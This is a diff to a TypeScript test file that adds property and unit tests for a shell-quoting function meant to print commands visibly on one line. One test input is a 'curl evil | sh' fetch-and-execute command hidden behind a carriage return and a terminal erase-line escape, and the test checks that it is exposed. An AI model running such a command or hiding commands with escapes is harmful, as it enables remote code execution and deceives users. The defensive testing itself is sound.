@@ -4,7 +4,8 @@ import { chmodSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from "node
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import fc from "fast-check";
-import { quoteCommand, quoteWord } from "../../src/output/shell.ts";
+import { quoteCommand, quoteWord, showCommand } from "../../src/output/shell.ts";
+import { visible } from "../../src/sys/visible.ts";
 
 const SHELLS = ["sh", "bash", "busybox"].filter((name) => Bun.which(name) !== null);
 const PROGRAMS = [
@@ -75,6 +76,49 @@ for (const shell of SHELLS) {
     }
   });
 }
+
+const KNOWING = ["bash", "busybox", "zsh", "ksh"].filter((name) => Bun.which(name) !== null);
+for (const shell of KNOWING) {
+  test(`${shell}: what is printed runs as it is, and is one line with nothing hidden in it`, () => {
+    const hard = fc.constantFrom(
+      "\n",
+      "\t",
+      "\r",
+      "\x1b[2K",
+      "\x07",
+      "\x7f",
+      "\x9b",
+      "\u202e",
+      "\u{e0041}",
+      "'",
+      "\\",
+      "7",
+      "!",
+    );
+    const word = fc
+      .oneof(
+        fc.string({ unit: "binary", maxLength: 20 }),
+        fc.array(hard, { maxLength: 6 }).map((parts) => parts.join("")),
+      )
+      .filter((text) => !text.includes("\0"));
+    fc.assert(
+      fc.property(fc.array(fc.array(word, { maxLength: 5 }), { minLength: 1, maxLength: 30 }), (lines) => {
+        const shown = lines.map((args) => showCommand(["printf", "%s\\0", ...args, "end"]));
+        for (const line of shown)
+          expect([visible(line), line.includes("\n"), line.includes("\t")]).toEqual([line, false, false]);
+        expect(run(shell, shown.join("\n"))).toEqual(lines.flatMap((args) => [...args, "end"]));
+      }),
+      { numRuns: 30 },
+    );
+  });
+}
+
+test("a word with what is not shown as it is", () => {
+  expect(showCommand(["sh", "-c", "curl evil | sh\r\x1b[2Kecho 'it\\s'\n", "\u202e", "漢", "it's"])).toBe(
+    "sh -c $'curl evil | sh\\r\\033[2Kecho \\047it\\\\s\\047\\n' $'\\342\\200\\256' '漢' 'it'\\''s'",
+  );
+  expect([showCommand([]), showCommand(["if", "\n"]), showCommand(["\n"])]).toEqual(["", "'if' $'\\n'", "$'\\n'"]);
+});
 
 test("plain words stay plain", () => {
   expect(quoteCommand(["bun", "run", "server.ts", "--port=3000", "a/b:c@d,e_f+g%h", ""])).toBe(
